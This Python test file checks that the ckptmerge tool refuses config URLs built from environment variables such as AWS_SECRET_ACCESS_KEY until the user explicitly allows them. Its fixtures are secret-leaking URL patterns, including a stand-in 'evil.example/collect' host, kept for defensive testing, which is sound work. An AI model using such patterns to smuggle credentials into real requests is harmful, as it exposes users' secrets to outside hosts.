"""A config cannot send environment variables to a remote host unless the user allows them.

A downloaded config's ``path: https://host/w/${AWS_SECRET_ACCESS_KEY}/m.safetensors`` is refused by
``load_config`` (so by ``check``, ``plan`` and ``merge``, before any request: a real HTTP server
records that none arrives); ``--allow-env`` / ``allow_env=`` / ``CKPTMERGE_ALLOW_ENV`` allow named
variables; ``check`` lists the hosts and URLs; messages show paths as written.
"""

from __future__ import annotations

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import numpy as np
import pytest

import ckptmerge as cm
from ckptmerge.config import load_config
from ckptmerge.core.errors import ArgumentError, ConfigError, SettingError

from _cli_util import assert_one_line_error, run

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCY"
ENV = {"AWS_SECRET_ACCESS_KEY": SECRET, "BUCKET": "models-prod", "HOST": "internal.example",
       "MODEL_URL": "https://evil.example/collect", "HOME": "/home/me"}


def problems_of(data, **kwargs):
    with pytest.raises(ConfigError) as info:
        load_config(data, **kwargs)
    assert SECRET not in str(info.value)
    return info.value.problems


@pytest.mark.parametrize("key, entry", [
    ("sources[0].path", {"sources": [{"path": "https://host/w/${AWS_SECRET_ACCESS_KEY}/m.safetensors"}]}),
    ("sources[0].path", {"sources": [{"path": "https://host/w/$AWS_SECRET_ACCESS_KEY/m.safetensors"}]}),
    ("sources[0].path", {"sources": [{"path": "s3://${BUCKET}/run/ckpt-1"}]}),
    ("sources[0].path", {"sources": [{"path": "https://${HOST}/m.safetensors"}]}),
    ("sources[0].path", {"sources": [{"path": "https://host/m.safetensors?sig=${AWS_SECRET_ACCESS_KEY}"}]}),
    ("sources[0].path", {"sources": [{"path": "https://me:${AWS_SECRET_ACCESS_KEY}@host/m"}]}),
    ("sources[0].path", {"sources": [{"path": "${MODEL_URL}"}]}),  # a variable that is a whole URL
    ("sources[0].path", {"sources": [{"path": "${MODEL_URL}/${HOME}"}]}),
    ("target", {"sources": [{"path": "."}], "target": "gs://${BUCKET}/t"}),
    ("output", {"sources": [{"path": "."}], "output": "s3://bucket/${AWS_SECRET_ACCESS_KEY}/m"}),
    ("sources[0].vocab[0].old_vocab", {"sources": [{"path": ".", "vocab": [
        {"name": "e", "old_vocab": "https://h/${AWS_SECRET_ACCESS_KEY}/v.txt", "new_vocab": ["a"]}]}]}),
])
def test_a_variable_in_a_url_is_refused_unless_allowed(key, entry):
    found = problems_of(entry, env=ENV)
    assert len(found) == 1 and found[0].startswith(key + ": "), found
    assert "is a URL built from the environment variable" in found[0] and "--allow-env" in found[0]
    assert "CKPTMERGE_ALLOW_ENV=" in found[0]


def test_the_refusal_names_every_variable_and_how_to_allow_each():
    (problem,) = problems_of({"sources": [{"path": "https://${HOST}/w/${AWS_SECRET_ACCESS_KEY}/m"}]}, env=ENV)
    assert "variables 'HOST' and 'AWS_SECRET_ACCESS_KEY'" in problem
    assert "--allow-env HOST --allow-env AWS_SECRET_ACCESS_KEY" in problem
    assert "CKPTMERGE_ALLOW_ENV=HOST,AWS_SECRET_ACCESS_KEY" in problem


@pytest.mark.parametrize("how", [dict(allow_env=["HOST", "AWS_SECRET_ACCESS_KEY"]),
                                 dict(env={**ENV, "CKPTMERGE_ALLOW_ENV": "HOST,AWS_SECRET_ACCESS_KEY"}),
                                 dict(env={**ENV, "CKPTMERGE_ALLOW_ENV": " HOST  AWS_SECRET_ACCESS_KEY "}),
                                 dict(allow_env="HOST", env={**ENV, "CKPTMERGE_ALLOW_ENV": "AWS_SECRET_ACCESS_KEY"})])
def test_allowed_variables_are_expanded_into_the_url(how):
    kwargs = {"env": ENV, **how}
    cfg = load_config({"sources": [{"path": "https://${HOST}/w/${AWS_SECRET_ACCESS_KEY}/m"}]}, **kwargs)
    assert cfg.sources[0].path == f"https://internal.example/w/{SECRET}/m"
    assert SECRET not in repr(cfg.urls)


def test_allowing_one_variable_still_refuses_the_other():
    (problem,) = problems_of({"sources": [{"path": "https://${HOST}/w/${AWS_SECRET_ACCESS_KEY}/m"}]}, env=ENV,
                             allow_env=["HOST"])
    assert "variable 'AWS_SECRET_ACCESS_KEY'" in problem and "'HOST'" not in problem.split("URL built")[1]


def test_local_paths_still_expand_every_variable(tmp_path):
    (tmp_path / "runs").mkdir()
    cfg = load_config({"sources": [{"path": "${ROOT}/runs"}], "output": "$ROOT/out"}, env={"ROOT": str(tmp_path)})
    assert cfg.sources[0].path == str(tmp_path / "runs") and cfg.urls == ()


def test_a_literal_dollar_in_a_url_needs_no_permission():
    cfg = load_config({"sources": [{"path": "s3://b/price$$/m"}]}, env={})
    assert cfg.sources[0].path == "s3://b/price$/m"


@pytest.mark.parametrize("bad", [["1ABC"], ["A-B"], [""], ["A B"], [3]])
def test_allow_env_must_name_variables(bad):
    with pytest.raises(ArgumentError, match="allow_env must list environment variable names"):
        load_config({"sources": [{"path": "."}]}, allow_env=bad)


def test_a_malformed_allow_list_variable_is_a_clear_error():
    with pytest.raises(SettingError, match="CKPTMERGE_ALLOW_ENV=.*is not a variable name"):
        load_config({"sources": [{"path": "."}]}, env={"CKPTMERGE_ALLOW_ENV": "GOOD,1bad"})


# -- messages show paths as written ------------------------------------------------------------


@pytest.mark.parametrize("data", [
    {"sources": [{"path": "/nonexistent/${AWS_SECRET_ACCESS_KEY}/ckpt"}]},
    {"sources": [{"path": "runs/${AWS_SECRET_ACCESS_KEY}"}]},
    {"sources": [{"path": ".", "vocab": [{"name": "e", "old_vocab": "/v/${AWS_SECRET_ACCESS_KEY}.txt",
                                          "new_vocab": ["a"]}]}]},
    {"sources": [{"path": ".", "vocab": [{"name": "e", "old_vocab": "v/$AWS_SECRET_ACCESS_KEY.txt",
                                          "new_vocab": ["a"]}]}]},
    {"sources": [{"path": "."}], "target": "${AWS_SECRET_ACCESS_KEY}"},
])
def test_problems_show_a_path_as_written_never_a_value(data, tmp_path):
    found = problems_of(data, env=ENV, base_dir=tmp_path)
    assert any("${AWS_SECRET_ACCESS_KEY}" in p or "$AWS_SECRET_ACCESS_KEY" in p for p in found), found


def test_an_allowed_value_is_shown_as_its_variable_wherever_the_url_is_shown(tmp_path):
    import fsspec

    from ckptmerge.formats.safetensors.writer import SafetensorsWriter

    token = "tok-" + os.urandom(8).hex()
    env = {"HF_TOKEN": token}
    local = tmp_path / "m.safetensors"
    with SafetensorsWriter(str(local), [("w", "float32", (2,))]) as w:
        w.add("w", np.ones(2, np.float32))
    url = f"memory://envurl-{os.getpid()}/{token}/m.safetensors"
    fsspec.filesystem("memory").pipe(url, local.read_bytes())
    try:
        cfg = load_config({"sources": [{"path": "memory://envurl-%d/${HF_TOKEN}/m.safetensors" % os.getpid()}]},
                          env=env, allow_env=["HF_TOKEN"])
        out = tmp_path / "out.safetensors"
        report = cm.merge(cfg.make_sources(), str(out))
        shown = [report.render(), json.dumps(report.to_dict()), out.read_bytes().decode("latin-1")]
        with pytest.raises(cm.CheckpointNotFoundError) as info:
            cm.load(cfg.sources[0].path + "-missing")
        shown.append(str(info.value))
        for text in shown:
            assert token not in text
        assert "${HF_TOKEN}" in shown[0] and "${HF_TOKEN}" in shown[3]
    finally:
        fsspec.filesystem("memory").rm(f"memory://envurl-{os.getpid()}", recursive=True)


# -- check lists the hosts and URLs --------------------------------------------------------------


def _write(tmp_path, text):
    cfg = tmp_path / "warm.yaml"
    cfg.write_text(text, encoding="utf-8")
    return cfg


def test_check_lists_every_host_and_url_as_written(tmp_path, monkeypatch):
    monkeypatch.setenv("BUCKET", "models-prod")
    (tmp_path / "local").mkdir()
    cfg = _write(tmp_path, "sources:\n"
                           "  - path: s3://${BUCKET}/run/ckpt-10\n"
                           "  - path: https://me:hunter22@hub.example:8443/m.safetensors?X-Amz-Signature=abc\n"
                           "  - path: local\n"
                           "target: gs://other/t\n"
                           "output: s3://${BUCKET}/merged\n")
    r = run("check", cfg, "--allow-env", "BUCKET")
    assert r.exit_code == 0, r.output
    assert r.stdout.splitlines() == [
        "OK: 3 sources",
        "Contacts 3 hosts: gs://other, https://hub.example:8443, s3://${BUCKET}",
        "  sources[0].path: s3://${BUCKET}/run/ckpt-10",
        "  sources[1].path: https://***@hub.example:8443/m.safetensors?X-Amz-Signature=***",
        "  target: gs://other/t",
        "  output: s3://${BUCKET}/merged",
    ]
    data = json.loads(run("check", cfg, "--allow-env", "BUCKET", "--json").stdout)
    assert data["ok"] is True and data["sources"] == 3
    assert data["hosts"] == ["gs://other", "https://hub.example:8443", "s3://${BUCKET}"]
    assert data["urls"][1] == {"key": "sources[1].path", "host": "https://hub.example:8443",
                               "url": "https://***@hub.example:8443/m.safetensors?X-Amz-Signature=***"}
    assert "hunter22" not in r.stdout + json.dumps(data) and "models-prod" not in r.stdout + json.dumps(data)


def test_check_says_when_no_remote_host_is_contacted(tmp_path):
    (tmp_path / "local").mkdir()
    r = run("check", _write(tmp_path, "sources:\n  - path: local\n"))
    assert r.exit_code == 0 and r.stdout == "OK: 1 source\nContacts no remote host: every path is local.\n"
    assert json.loads(run("check", "--json", tmp_path / "warm.yaml").stdout) == {
        "ok": True, "sources": 1, "hosts": [], "urls": []}


# -- the CLI: refused before any request ---------------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    seen: list = []

    def do_GET(self):  # noqa: N802 - http.server's name
        type(self).seen.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def http_server():
    _Recorder.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.seen
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("command", ["check", "plan", "merge"])
def test_the_commands_refuse_a_secret_in_a_url_before_any_request(http_server, tmp_path, monkeypatch, command):
    base, seen = http_server
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    cfg = _write(tmp_path, f"sources:\n  - path: {base}/w/${{AWS_SECRET_ACCESS_KEY}}/model.safetensors\n"
                           f"target: {base}/t\noutput: {tmp_path}/out.safetensors\n")
    r = run(command, cfg)
    assert r.exit_code == 2, r.output
    assert "Traceback" not in r.stderr and "warm.yaml:2 sources[0].path:" in r.stderr
    assert "--allow-env AWS_SECRET_ACCESS_KEY" in r.stderr
    assert SECRET not in r.stdout + r.stderr
    assert seen == []  # nothing was sent


def test_allow_env_on_the_cli_lets_the_request_go_with_the_value(http_server, tmp_path, monkeypatch):
    base, seen = http_server
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    cfg = _write(tmp_path, f"sources:\n  - path: {base}/w/${{AWS_SECRET_ACCESS_KEY}}/model.safetensors\n")
    r = run("merge", cfg, "-o", tmp_path / "out.safetensors", "--allow-env", "AWS_SECRET_ACCESS_KEY")
    assert r.exit_code == 2 and "Traceback" not in r.stderr  # the server has no such file
    assert seen and all(SECRET in p for p in seen)  # the user allowed it: the host got it
    assert SECRET not in r.stdout + r.stderr and "${AWS_SECRET_ACCESS_KEY}" in r.stderr


def test_a_bad_allow_list_variable_is_one_line_from_the_cli(tmp_path, monkeypatch):
    (tmp_path / "local").mkdir()
    monkeypatch.setenv("CKPTMERGE_ALLOW_ENV", "OK,not-a-name")
    assert_one_line_error(run("check", _write(tmp_path, "sources:\n  - path: local\n")),
                          "CKPTMERGE_ALLOW_ENV=", "'not-a-name' is not a variable name")
